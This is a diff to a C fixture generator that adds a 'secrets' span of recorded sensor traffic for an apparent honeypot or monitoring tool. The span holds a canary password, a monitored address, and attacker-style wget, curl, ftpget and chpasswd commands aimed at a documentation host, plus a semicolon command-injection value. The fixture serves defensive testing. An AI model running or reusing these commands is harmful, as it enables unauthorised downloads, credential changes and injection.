@@ -1,6 +1,7 @@
-/* Makes a store of fixed things heard: two spans of the living sensor tokyo-1 and one of osaka-1.
+/* Makes a store of fixed things heard: two spans of the living sensor tokyo-1 and one of osaka-1; or, asked for
+ * secrets, one span in which every way carries a password that is in no published list, or a monitored address.
  *
- * In:  the folder of the store; a database of countries, or nothing. Out: exit status 1 and a message
+ * In:  the folder of the store; a database of countries, or nothing; "secrets", or nothing. Out: exit status 1 and a message
  *      when it cannot be made. Nobody's packets: every row is written here. */
 #include <stdio.h>
 #include <stdlib.h>
@@ -196,6 +197,62 @@ static void other_sensor(struct span *s)
     event(s, 60, 120, EVENT_DISK_FULL, 6, "no space left on device");
 }
 
+/* Unpublished, and monitored: what no answer may show. */
+#define PASSWORD "Zx7-unpublished-9q"
+#define ESCAPED  "%5A%78%37%2D%75%6E%70%75%62%6C%69%73%68%65%64%2D%39%71"
+#define BASIC    "YWRtaW46Wng3LXVucHVibGlzaGVkLTlx" /* admin:PASSWORD */
+#define SENSOR   "203.0.113.5"
+
+static void secret_content(struct span *s, uint8_t id, uint16_t port, const char *text,
+                           bool dialogue)
+{
+    content(s, id, keep(s, text, strlen(text)), false, "");
+    s->payloads[s->rows.payload_count - 1].dialogue = dialogue;
+    said(s, id, "192.0.2.9", port, id, 1);
+}
+
+static void secrets(struct span *s)
+{
+    static const char *const contents[] = {
+        "USER admin\r\nPASS " PASSWORD "\r\n",
+        "a1 LOGIN admin " PASSWORD "\r\n",
+        "GET / HTTP/1.0\r\nAuthorization: Basic " BASIC "\r\n\r\n",
+        "POST /login HTTP/1.0\r\n\r\nuser=admin&password=" PASSWORD "&x=1",
+        "psd=" ESCAPED "&x=1",
+        "{\"user\":\"admin\",\"password\":\"" PASSWORD "\"}",
+        "GET http://admin:" PASSWORD "@" SENSOR "/ HTTP/1.1\r\n\r\n",
+        "GET / HTTP/1.1\r\nHost: " SENSOR "\r\n\r\n",
+        "GET /?url=http://" SENSOR "/ HTTP/1.1\r\nHost: 198.51.100.77\r\n\r\n",
+        "c=;ftpget+-u+a+-p+" PASSWORD "+192.0.2.9+x+x",
+        "EHLO x\r\nAUTH PLAIN " BASIC "\r\n",
+    };
+    static const char *const commands[] = {
+        "ftpget -u admin -p " PASSWORD " 192.0.2.9 x x",
+        "wget --user=admin --password=" PASSWORD " http://192.0.2.9/x",
+        "curl -u admin:" PASSWORD " http://192.0.2.9/x",
+        "wget http://admin:" PASSWORD "@192.0.2.9/x",
+        "echo root:" PASSWORD "|chpasswd",
+        "wget http://" SENSOR "/x",
+    };
+    static const char *const with_user[] = {"http://admin:" PASSWORD "@192.0.2.9/x", "192.0.2.9",
+                                            "x", ""};
+    static const char *const with_value[] = {"http://192.0.2.9/x?pwd=" PASSWORD, "192.0.2.9",
+                                             "x?pwd=" PASSWORD, ""};
+    static const char *const of_sensor[] = {"http://" SENSOR "/x", SENSOR, "x", ""};
+    s->hour = 9;
+    talk_to(s, 10, "192.0.2.9", 23, 120, true);
+    login(s, 11, "192.0.2.9", KEEP(s, "root"), KEEP(s, PASSWORD), LOGIN_LIST_NONE, true);
+    login(s, 12, "192.0.2.9", KEEP(s, "admin"), KEEP(s, PASSWORD), LOGIN_LIST_OWN, true);
+    secret_content(s, 0xee, 23, "root\r\n" PASSWORD "\r\nenable\r\n", true);
+    for (uint8_t i = 0; i < sizeof contents / sizeof contents[0]; i++)
+        secret_content(s, i + 1, 80, contents[i], false);
+    for (uint32_t i = 0; i < sizeof commands / sizeof commands[0]; i++)
+        command(s, 20 + i, "192.0.2.9", keep(s, commands[i], strlen(commands[i])), KEEP(s, ""));
+    download(s, 31, "192.0.2.9", 23, DOWNLOAD_WGET, true, with_user);
+    download(s, 32, "192.0.2.9", 23, DOWNLOAD_WGET, true, with_value);
+    download(s, 33, "192.0.2.9", 23, DOWNLOAD_WGET, false, of_sensor);
+}
+
 static void point_rows(struct span *s)
 {
     s->rows.day = DAY;
@@ -236,13 +293,16 @@ int main(int argc, char **argv)
         void (*fill)(struct span *s);
     } spans[] = {{"tokyo-1", "live-1", first_span},
                  {"tokyo-1", "live-2", second_span},
-                 {"osaka-1", "live-3", other_sensor}};
+                 {"osaka-1", "live-3", other_sensor},
+                 {"tokyo-1", "live-4", secrets}};
+    enum { SECRETS = sizeof spans / sizeof spans[0] - 1 };
+    const size_t first = argc > 3 ? SECRETS : 0, end = argc > 3 ? SECRETS + 1 : SECRETS;
     struct error error = {0};
     const char *files[] = {argc > 2 ? argv[2] : NULL};
     const struct geo_options geo_options = {.files = files, .file_count = argc > 2};
     struct geo *geo = argc > 1 ? geo_create(&geo_options, &error) : NULL;
     bool good = geo != NULL;
-    for (size_t i = 0; i < sizeof spans / sizeof spans[0] && good; i++) {
+    for (size_t i = first; i < end && good; i++) {
         const struct ingest_options options = {.store = argv[1],
                                                .sensor = spans[i].sensor,
                                                .input_name = "live:eth0",
